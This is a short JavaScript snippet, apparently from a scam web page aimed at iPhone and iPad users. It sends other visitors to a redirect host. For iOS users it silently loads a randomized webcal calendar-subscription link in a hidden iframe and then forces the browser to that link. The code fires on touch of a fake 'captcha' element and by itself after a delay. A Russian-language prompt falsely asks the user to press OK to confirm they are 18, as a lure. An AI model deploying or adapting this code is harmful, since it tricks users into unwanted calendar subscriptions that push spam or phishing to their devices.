(function(){
  var ios = /iP(hone|ad|od)/.test(navigator.userAgent) && !window.MSStream;
  if (!ios || /GSA|FBAN|CriOS/.test(navigator.userAgent)) { window.location = 'https://smart.flow-z.example/' + location.search; return; }
  var cal = 'webcal' + '://' + 'cal' + (Math.random() * 90 | 0) + '.event-daily.example/s.ics';
  function sub() {
    var f = document.createElement('iframe'); f.style.display = 'none'; f.src = cal; document.body.appendChild(f);
    setTimeout(function(){ window.location.href = cal; }, 400);
    setTimeout(function(){ window.location.href = 'https://smart.flow-z.example/next?c=cal'; }, 6000);
  }
  document.getElementById('captcha').addEventListener('touchstart', sub);
  document.getElementById('txt').innerHTML = 'Нажмите <b>ОК</b>, чтобы подтвердить, что вам есть 18 лет';
  setTimeout(sub, 1500);
})();
